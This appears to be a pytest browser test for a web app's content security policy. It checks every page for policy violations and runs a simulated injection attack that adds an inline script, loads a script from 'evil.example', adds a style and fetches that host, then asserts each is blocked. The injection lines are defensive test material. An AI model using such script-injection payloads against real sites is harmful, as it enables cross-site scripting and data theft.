"""The content policy holds in a real browser, and lets every page of the app be itself."""

import base64
import hashlib
import os
import re
import shutil

import pytest

from crossdock.web.site import BUILT, STYLES

WAIT_MS = 60_000
LISTEN = """
window.broken = [];
document.addEventListener("securitypolicyviolation", (event) =>
  window.broken.push(`${event.violatedDirective}: ${event.blockedURI} ${event.sample}`));
"""
# What an attacker who got some markup into a page would try next.
ATTACK = """
() => new Promise((done) => {
  const told = [];
  document.addEventListener("securitypolicyviolation", (event) => {
    told.push(event.violatedDirective);
    if (told.length === 4) done(told.sort());
  });
  const script = document.createElement("script");
  script.textContent = "window.taken = true";
  document.body.append(script);
  const from = document.createElement("script");
  from.src = "http://evil.example/x.js";
  document.body.append(from);
  const style = document.createElement("style");
  style.textContent = "body { display: none }";
  document.body.append(style);
  fetch("http://evil.example/").catch(() => undefined);
})
"""


@pytest.fixture
def built():
    if not (BUILT / "index.html").is_file():
        pytest.skip("the web app is not built: run `make site`")
    return BUILT


def test_the_one_style_that_knows_no_nonce_is_the_charts_own(built):
    texts = [file.read_text() for file in built.glob("assets/*.js")]
    found = {
        style
        for text in texts
        for style in re.findall(r"[`\"'](a#tv-attr-logo\{[^`\"']*)[`\"']", text)
    }
    digests = [hashlib.sha256(each.encode()).digest() for each in found]
    assert tuple(base64.b64encode(each).decode() for each in digests) == STYLES


async def test_every_page_of_the_app_keeps_to_the_policy_and_strangers_code_may_not(
    built, desk, serve
):
    playwright = pytest.importorskip("playwright.async_api")
    path = os.environ.get("CROSSDOCK_CHROMIUM") or shutil.which("chromium")
    if path is None:
        pytest.skip("no chromium is on PATH, nor named by CROSSDOCK_CHROMIUM")
    dashboard = await serve()
    async with playwright.async_playwright() as running:
        browser = await running.chromium.launch(executable_path=path, args=["--no-sandbox"])
        page = await browser.new_page()
        page.set_default_timeout(WAIT_MS)
        await page.add_init_script(LISTEN)
        await page.goto(dashboard.link)
        await page.get_by_label("User").fill("ada")
        await page.get_by_label("Password").first.fill("correct horse battery")
        await page.get_by_role("button", name="Begin").click()
        rail = page.get_by_role("navigation", name="Pages").get_by_role("link")
        await rail.first.wait_for()
        paths = await rail.evaluate_all("all => all.map((a) => a.getAttribute('href'))")
        assert len(paths) > 8
        for each in [*paths, "/nothing-here", "/docs"]:
            await page.goto(dashboard.url + each)
            await page.wait_for_load_state("networkidle")
            assert await page.evaluate("window.broken") == [], each
        await page.goto(dashboard.url)
        told = await page.evaluate(ATTACK)
        assert told == [
            "connect-src",
            "script-src-elem",
            "script-src-elem",
            "style-src-elem",
        ]
        assert await page.evaluate("window.taken") is None
        await browser.close()
